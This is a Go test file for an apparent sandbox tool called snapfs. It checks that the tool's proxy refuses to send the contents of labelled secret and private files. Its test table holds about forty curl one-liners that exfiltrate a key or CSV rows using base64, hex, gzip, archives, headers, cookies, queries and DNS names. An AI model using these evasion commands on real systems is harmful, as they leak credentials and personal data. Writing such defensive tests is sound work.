package main

import (
	"fmt"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/snapfs/snapfs/internal/treetest"
)

// sendings are ways in which a program sends the content of a labelled file, $K or config/prod.env, with the status
// that curl reports: 403 from the proxy, or 000 for a connection that never was.
var sendings = []struct{ name, status, command string }{
	{"a body", "403", `curl -d "$K" $U`},
	{"a file", "403", `curl --data-binary @config/prod.env $U`},
	{"a file by HTTP/1.1", "403", `curl --http1.1 --data-binary @config/prod.env $U`},
	{"a file in chunks", "403", `curl --http1.1 -H "Transfer-Encoding: chunked" --data-binary @config/prod.env $U`},
	{"plain HTTP", "403", `curl --data-binary @config/prod.env $P`},
	{"a PUT", "403", `curl -T config/prod.env $U`},
	{"another method", "403", `curl -X PATCH -d "$K" $U`},
	{"a form", "403", `curl -F f=@config/prod.env $U`},
	{"a field", "403", `curl --data-urlencode "v=$K" $U`},
	{"a query", "403", `curl -G --data-urlencode "v=$K" $U`},
	{"a path", "403", `curl $U/$(printf %s "$K" | od -An -v -tx1 | tr -d " \n")`},
	{"an escaped path", "400", `curl $U/$(printf %s "$K" | od -An -v -tx1 | sed "s/ /%/g" | tr -d "\n")`},
	{"a header", "403", `curl -H "X-V: $K" $U`},
	{"a header's name", "403", `curl -H "X-$(printf %s "$K" | od -An -v -tx1 | tr -d " \n"): 1" $U`},
	{"a cookie", "403", `curl -b "k=$K" $U`},
	{"a bearer token", "403", `curl -H "Authorization: Bearer $K" $U`},
	{"a password", "403", `curl -u "me:$K" $U`},
	{"a user agent", "403", `curl -A "$K" $U`},
	{"a referrer", "403", `curl -e "http://$(printf %s "$K" | base64 -w0 | tr "+/" "-_")/" $U`},
	{"base64", "403", `curl -d "$(base64 config/prod.env)" $U`},
	{"base64 after one byte", "403", `curl -d "$(printf "x$K" | base64 -w0)" $U`},
	{"base64 after two bytes", "403", `curl -d "$(printf "xy$K" | base64 -w0)" $U`},
	{"base64 in lines", "403", `curl -d "$(printf "xy$K" | base64 -w 20)" $U`},
	{"base64 twice", "403", `curl -d "$(base64 -w0 config/prod.env | base64 -w0)" $U`},
	{"hexadecimal", "403", `curl -d "$(od -An -v -tx1 config/prod.env)" $U`},
	{"upper hexadecimal", "403", `curl -d "$(od -An -v -tx1 config/prod.env | tr -d " \n" | tr a-f A-F)" $U`},
	{"JSON", "403", `curl -H "Content-Type: application/json" -d "{\"v\":\"a\\nb $K\\n\"}" $U`},
	{"JSON in JSON", "403", `curl -d "{\"v\":\"{\\\"w\\\":\\\"x\\\\\\\\n$K\\\"}\"}" $U`},
	{"gzip", "403", `gzip < config/prod.env | curl -H "Content-Encoding: gzip" --data-binary @- $U`},
	{"a gzip file", "403", `gzip < config/prod.env | curl --data-binary @- $U`},
	{"an archive", "403", `tar cf - config | curl --data-binary @- $U`},
	{"a compressed archive", "403", `tar cf - config | gzip | curl -F f=@- $U`},
	{"gzip in base64", "403", `gzip < config/prod.env | base64 | curl --data-binary @- $U`},
	{"an encoding that is none", "403", `curl -H "Content-Encoding: gzip" -d x $U`},
	{"another encoding", "403", `curl -H "Content-Encoding: br" -d x $U`},
	{"a copy", "403", `cp config/prod.env copy; curl --data-binary @copy $U`},
	{"a part", "403", `head -c 100 data/rows.csv | tail -c 70 | curl --data-binary @- $U`},
	{"a row", "403", `curl -d "$(sed -n 2p data/rows.csv)" $U`},
	{"a row in a large body", "403", `(head -c 3000000 /dev/zero | tr "\0" "a"; sed -n 3p data/rows.csv) | curl --data-binary @- $U`},
	{"a body that is too large", "413", `head -c 34000000 /dev/zero | curl -H Expect: --data-binary @- $U`},
	{"an upgrade", "403", `curl --http1.1 -H "Connection: Upgrade" -H "Upgrade: websocket" $U`},
	{"an address", "000", `curl http://192.0.2.1:PLAIN/`},
	{"a name", "000", `curl http://$(printf %s "$K" | od -An -v -tx1 | tr -d " \n" | sed "s/.\{60\}/&./g").host.snapfs:PLAIN/`},
	{"nothing", "200", `curl -d "the weather is fine" $U`},
	{"nothing, compressed", "200", `echo fine | gzip | curl -H "Content-Encoding: gzip" --data-binary @- $U`},
	{"nothing, by plain HTTP", "200", `curl $P`},
	{"a large body", "200", `head -c 3000000 /dev/zero | tr "\0" "a" | curl --data-binary @- ${U%echo}messages`},
}

// TestLabelledContentIsNotSent sends the content of labelled files from inside in every way of sendings, with curl. No
// server gets it, and no record has it.
func TestLabelledContentIsNotSent(t *testing.T) {
	treetest.NeedRoot(t)
	treetest.NeedProgram(t, "curl", "gzip", "base64", "od", "tar")
	v := newVault(t, `"host.snapfs:PORT", "host.snapfs:PLAIN", "192.0.2.1:PLAIN"`, "", "")
	plain := httptest.NewServer(v)
	t.Cleanup(plain.Close)
	_, port, _ := strings.Cut(plain.Listener.Addr().String(), ":")
	profile, err := os.ReadFile(v.profile)
	if err != nil {
		t.Fatal(err)
	}
	text := strings.ReplaceAll(string(profile), "PLAIN", port) + fmt.Sprintf("[data]\nsecret = [%q]\nprivate = [%q]\n", filepath.Join(v.workspace, "config"), filepath.Join(v.workspace, "data"))
	var script strings.Builder
	script.WriteString("K=$(sed -n s/KEY=//p config/prod.env)\nU=https://host.snapfs:PORT/v1/echo\nP=http://host.snapfs:PLAIN/v1/echo\n" +
		`curl() { command curl -sS -m 60 -o reply -w "%{http_code}" "$@" 2>error; }` + "\n")
	want, fine := "", 0
	for _, s := range sendings {
		script.WriteString("printf '%s: ' '" + strings.ReplaceAll(s.name, "'", `'\''`) + "'; " + s.command + "; echo\n")
		want += s.name + ": " + s.status + "\n"
		if s.status == "200" {
			fine++
		}
	}
	rows := "name,mail,phone\nAda Example,ada@example.org,+1 555 0100\nBob Example,bob@example.org,+1 555 0101\nCid Example,cid@example.org,+1 555 0102\n"
	for path, content := range map[string]string{
		v.profile: text,
		filepath.Join(v.workspace, "config", "prod.env"): "# the production settings\nKEY=" + v.key + "\n",
		filepath.Join(v.workspace, "data", "rows.csv"):   rows,
		filepath.Join(v.workspace, "try.sh"):             strings.ReplaceAll(v.script(script.String()), "PLAIN", port),
	} {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	v.snapfs("new", "labels", "--profile", v.profile).want(0)
	if got := v.snapfs("exec", "labels", "--", "sh", "try.sh").want(0).stdout; got != want {
		t.Errorf("got\n%swant\n%s", got, want)
	}
	if with, without := v.requests(); with != 0 || without != fine {
		t.Errorf("the servers got %d requests with the content and %d others; want 0 and %d", with, without, fine)
	}
	v.snapfs("net", "labels").has("the body of the request is refused: it has ", "/config/prod.env, which is labelled secret (in base64)", "/data/rows.csv, which is labelled private", "without a name, cannot be searched")
	v.snapfs("events", "--json").has("snapfs.network.refused", "which is labelled secret")
	for _, args := range [][]string{{"net", "labels"}, {"net", "--json", "labels"}, {"events", "--json"}, {"log", "labels"}} {
		v.clean(strings.Join(args, " "), []byte(v.snapfs(args...).all))
	}
	if refused := v.snapfs("promote", "labels").has("/copy: it has "); refused.status == 0 {
		t.Error("the content was promoted")
	}
	v.snapfs("net", "labels").has("[labelled]")
	for _, name := range []string{"labels.json", "net.jsonl"} {
		files, err := filepath.Glob(filepath.Join(v.state, "*", "labels", name))
		if err != nil || len(files) != 1 {
			t.Fatalf("%s: %v, %v", name, files, err)
		}
		data, err := os.ReadFile(files[0])
		if err != nil {
			t.Fatal(err)
		}
		v.clean(files[0], data)
	}
	v.snapfs("rm", "labels").want(0)
}
